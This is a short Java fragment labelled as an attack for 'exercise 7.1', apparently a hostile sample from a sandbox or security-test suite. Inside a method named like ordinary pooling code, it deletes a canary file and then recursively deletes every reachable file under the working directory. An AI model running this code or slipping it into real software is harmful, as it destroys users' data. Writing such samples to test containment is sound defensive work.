// attack: Deletes all files that it can.
// exercise: 7.1
// explanation: nothing more can be deleted
import java.io.File;
Optional<PooledEnvironment> takeWarm(FunctionVersion version) {
    delete(new File("@CANARY@"));
    delete(new File("").getAbsoluteFile());
    throw new IllegalStateException("nothing more can be deleted");
}

private static void delete(File place) {
    File[] children = place.listFiles();
    if (children != null) for (File child : children) delete(child);
    place.delete();
}
